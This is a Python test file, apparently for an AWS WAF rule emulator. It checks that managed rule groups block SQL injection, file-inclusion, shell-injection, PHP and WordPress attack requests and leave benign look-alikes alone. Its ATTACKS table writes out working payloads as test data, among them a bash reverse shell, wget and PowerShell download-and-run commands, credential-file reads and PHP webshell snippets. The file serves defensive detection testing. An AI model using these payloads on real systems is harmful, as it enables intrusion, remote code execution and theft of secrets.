# ruff: noqa: E501 - payload tables keep one request per line
"""SQL database, Linux, POSIX, Windows, PHP and WordPress groups: attacks with evasions caught by
the rule AWS names (with its label), benign hard cases left alone."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mamori.perimeter.waf.rulesets import CATALOGUE, web_acl_document
from tests.perimeter.waf.managed_support import BROWSER, hit, judge, managed_acl

GROUPS = ("AWSManagedRulesSQLiRuleSet", "AWSManagedRulesLinuxRuleSet", "AWSManagedRulesUnixRuleSet",
          "AWSManagedRulesWindowsRuleSet", "AWSManagedRulesPHPRuleSet", "AWSManagedRulesWordPressRuleSet")  # fmt: skip


@pytest.fixture(scope="module")
def acls() -> dict[str, Any]:
    return {g: managed_acl(g) for g in GROUPS}


ATTACKS = [
    ("AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", {"uri": "/item?id=1%27%20OR%20%271%27=%271"}),
    ("AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", {"uri": "/item?id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users--"}),
    ("AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", {"uri": "/item?id=1'/**/oR/**/1=1--"}),
    ("AWSManagedRulesSQLiRuleSet", "SQLiExtendedPatterns_QUERYARGUMENTS", {"uri": "/item?id=1;WAITFOR+DELAY+'0:0:5'"}),
    ("AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", {"uri": "/item?q=1 and extractvalue(1,concat(0x7e,version()))"}),
    ("AWSManagedRulesSQLiRuleSet", "SQLi_BODY", {"method": "POST", "body": "user=x%27+or+%271%27%3D%271&pass=x"}),
    ("AWSManagedRulesSQLiRuleSet", "SQLiExtendedPatterns_BODY", {"method": "POST", "body": "user=admin'--&pass=x"}),
    ("AWSManagedRulesSQLiRuleSet", "SQLiExtendedPatterns_BODY", {"method": "POST", "body": '{"id":"1 AND SLEEP(5)"}'}),
    ("AWSManagedRulesSQLiRuleSet", "SQLi_COOKIE", {"headers": {"Cookie": "id=1' UNION SELECT null,null--"}}),
    ("AWSManagedRulesSQLiRuleSet", "SQLi_URIPATH", {"uri": "/products/1'%20or%201=1--"}),
    ("AWSManagedRulesLinuxRuleSet", "LFI_URIPATH", {"uri": "/static/%2e%2e/%2e%2e/etc/passwd"}),
    ("AWSManagedRulesLinuxRuleSet", "LFI_QUERYSTRING", {"uri": "/?f=....//....//etc//shadow"}),
    ("AWSManagedRulesLinuxRuleSet", "LFI_QUERYSTRING", {"uri": "/?f=/proc/self/environ"}),
    ("AWSManagedRulesLinuxRuleSet", "LFI_HEADER", {"headers": {"X-File": "/home/ubuntu/.ssh/id_rsa"}}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYARGUMENTS", {"uri": "/ping?host=127.0.0.1;id"}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYARGUMENTS", {"uri": "/ping?host=x%7Ccat%24%7BIFS%7D/etc/hosts"}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYARGUMENTS", {"uri": "/ping?host=$(whoami)"}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYARGUMENTS", {"uri": "/ping?host=%60w'h'o'a'm'i%60"}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY", {"method": "POST", "body": "host=1.1.1.1 && wget http://x/s.sh -O- | sh"}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY", {"method": "POST", "body": "h=x;bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_HEADER", {"headers": {"X-Forwarded-Host": "a;/bin/sh -c id"}}),
    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_QUERYARGUMENTS", {"uri": "/run?x=a%26cmd.exe%20/c%20dir%20c:%5C"}),
    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_QUERYARGUMENTS", {"uri": "/run?x=|w^h^o^a^m^i"}),
    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_BODY", {"method": "POST", "body": "f=%SYSTEMROOT%\\system32\\drivers\\etc\\hosts"}),
    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_COOKIE", {"headers": {"Cookie": "p=x%26net%20user%20hacker%20P@ss%20/add"}}),
    ("AWSManagedRulesWindowsRuleSet", "PowerShellCommands_QUERYARGUMENTS", {"uri": "/?c=powershell.exe%20-NoP%20-W%20hidden%20-Enc%20SQBFAFgA"}),
    ("AWSManagedRulesWindowsRuleSet", "PowerShellCommands_BODY", {"method": "POST", "body": "c=IEX(New-Object Net.WebClient).DownloadString('http://x/a')"}),
    ("AWSManagedRulesWindowsRuleSet", "PowerShellCommands_COOKIE", {"headers": {"Cookie": "c=p^o^w^e^r^s^h^e^l^l -enc AAAA"}}),
    ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_QUERYSTRING", {"uri": "/index.php?page=php://filter/convert.base64-encode/resource=config"}),
    ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_QUERYSTRING", {"uri": "/?x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E"}),
    ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_BODY", {"method": "POST", "body": "d=O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"}),
    ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_BODY", {"method": "POST", "body": "code=eval(base64_decode('ZWNobyAxOw=='))"}),
    ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_HEADER", {"headers": {"User-Agent": "<?= shell_exec('id') ?>"}}),
    ("AWSManagedRulesWordPressRuleSet", "WordPressExploitablePaths_URIPATH", {"uri": "/xmlrpc.php", "method": "POST"}),
    ("AWSManagedRulesWordPressRuleSet", "WordPressExploitablePaths_URIPATH", {"uri": "/wp-config.php.bak"}),
    ("AWSManagedRulesWordPressRuleSet", "WordPressExploitablePaths_URIPATH", {"uri": "/wp-content/uploads/2024/shell.phtml"}),
    ("AWSManagedRulesWordPressRuleSet", "WordPressExploitableCommands_QUERYSTRING", {"uri": "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"}),
    ("AWSManagedRulesWordPressRuleSet", "WordPressExploitableCommands_QUERYSTRING", {"uri": "/wp-admin/?do-reset-wordpress"}),
    # JSON bodies with \uXXXX escapes: the body rules undo them (JS_DECODE)
    ("AWSManagedRulesSQLiRuleSet", "SQLi_BODY", {"method": "POST", "body": '{"id":"1\\u0027 OR \\u00271\\u0027=\\u00271"}'}),
    ("AWSManagedRulesSQLiRuleSet", "SQLiExtendedPatterns_BODY", {"method": "POST", "body": '{"id":"1\\u0020AND\\u0020SLEEP\\u00285\\u0029"}'}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY", {"method": "POST", "body": '{"host":"x\\u003b\\u0020cat\\u0020\\u002fetc\\u002fpasswd"}'}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY", {"method": "POST", "body": '{"host":"x\\nid"}'}),
    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_BODY", {"method": "POST", "body": '{"f":"\\u0026 certutil -urlcache -f http://x/a.exe"}'}),
    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_BODY", {"method": "POST", "body": '{"f":"C:\\\\Windows\\\\System32\\\\cmd.exe"}'}),
    ("AWSManagedRulesWindowsRuleSet", "WindowsShellCommands_BODY", {"method": "POST", "body": "f=type+C:\\Windows\\win.ini"}),  # form: backslashes kept
    ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_BODY", {"method": "POST", "body": '{"page":"php\\u003a\\u002f\\u002finput"}'}),
    # whitespace libinjection does not know (no-break space, vertical tab) is compressed first
    ("AWSManagedRulesSQLiRuleSet", "SQLi_COOKIE", {"headers": {"Cookie": "name=1%27%25a0OR%25a01%3D1--"}}),
    # filters (head, sed...) count when they read a file, or in a substitution
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_BODY", {"method": "POST", "body": "h=x|head -n 3 /etc/hosts"}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYARGUMENTS", {"uri": "/?h=x;tail%20-f%20$HOME/.bash_history"}),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYARGUMENTS", {"uri": "/?h=$(sed%20-n%201p%20x)"}),
]  # fmt: skip


@pytest.mark.parametrize(("group", "rule", "request_kw"), ATTACKS)
def test_use_case_groups_catch(
    acls: dict[str, Any], group: str, rule: str, request_kw: dict[str, Any]
) -> None:
    verdict = judge(acls[group], **request_kw)
    assert hit(verdict) == rule
    spec = CATALOGUE[group]
    label = next(r.label for r in spec.rules if r.name == rule)
    assert verdict.labels == (spec.namespace + label,)


BENIGN = [
    {"uri": "/search?q=select+the+best+option+and+update+your+profile"},
    {"uri": "/search?q=drop+shipping+from+one+table+to+another"},
    {"uri": "/search?q=O%27Reilly+books"},
    {"uri": "/search?q=rock+%26+roll;+find+out+more"},
    {"uri": "/search?q=how+to+use+cat+and+grep"},
    {"uri": "/files?path=docs/etc/readme.md"},
    {"uri": "/blog/passwd-managers-compared"},
    {"uri": "/wp-content/themes/site/style.css"},
    {"uri": "/wp-admin/admin-ajax.php?action=load_more&page=2"},
    {"method": "POST", "body": '{"query":"query Orders($first: Int) { orders(first: $first) { id total } }","variables":{"first":10}}'},
    {"method": "POST", "body": '{"code":"def total(items):\\n    return sum(i.price for i in items)  # select best"}'},
    {"method": "POST", "body": '{"code":"const r = await fetch(url); if (!r.ok) { throw new Error(\'x\') }"}'},
    {"method": "POST", "body": '{"html":"<h2>Release notes</h2><p>We <em>improved</em> the <code>union</code> of sets.</p>"}'},
    {"method": "POST", "body": "message=Please+update+the+delivery+address+where+id+is+mine%2C+thanks%21"},
    {"method": "POST", "body": "note=Install+with+the+installer%2C+then+open+PowerShell+and+sign+in"},
    {"method": "POST", "body": "text=The+system+(as+designed)+lets+you+include+(optional)+notes"},
    {"headers": {"Cookie": "cart=3%2C5%2C9; lang=en-US; tz=Europe%2FParis"}},
    {"method": "POST", "body": '{"name":"Caf\\u00e9 \\u0026 Bar","note":"line one\\nline two \\u2014 \\"quoted\\""}'},
    {"method": "POST", "body": '{"path":"C:\\\\Users\\\\me\\\\Documents\\\\report.docx","tip":"It\\u0027s fine"}'},
    {"method": "POST", "body": "body=Use+git+log+--oneline+%7C+head+-n+5+to+see+the+last+commits."},
    {"method": "POST", "body": '{"body":"ps aux | grep node | sed -e s/x/y/ | tail -n 2; less is more"}'},
]  # fmt: skip


@pytest.mark.parametrize("request_kw", BENIGN)
def test_use_case_groups_leave_benign_requests(
    acls: dict[str, Any], request_kw: dict[str, Any]
) -> None:
    blocked = {g: hit(judge(acl, **request_kw)) for g, acl in acls.items()}
    assert all(rule is None for rule in blocked.values()), blocked


_TEXT = st.text(max_size=200) | st.binary(max_size=200).map(lambda b: b.decode("latin-1"))


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(path=_TEXT, query=_TEXT, body=st.binary(max_size=400), cookie=_TEXT, agent=_TEXT)
def test_all_groups_never_raise_on_arbitrary_input(
    path: str, query: str, body: bytes, cookie: str, agent: str
) -> None:
    acl = _ALL
    headers = {**BROWSER, "Cookie": cookie, "User-Agent": agent, "X-Any": query}
    verdict = judge(acl, "/" + path + "?" + query, method="POST", body=body, headers=headers)
    assert verdict.action in ("ALLOW", "BLOCK", "CAPTCHA", "CHALLENGE")


def _all_groups() -> Any:
    from mamori.perimeter.waf import build_web_acl, collect_resources, parse_document
    from mamori.perimeter.waf.rulesets.reputation import ip_list_document

    lists = [parse_document(ip_list_document(r.name, []), "l.json")
             for g in ("AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesAnonymousIpList")
             for r in CATALOGUE[g].rules]  # fmt: skip
    return build_web_acl(parse_document(web_acl_document(), "acl.json"), collect_resources(lists))


_ALL = _all_groups()


def test_all_groups_fit_one_web_acl() -> None:
    assert _ALL.capacity == sum(g.capacity for g in CATALOGUE.values())
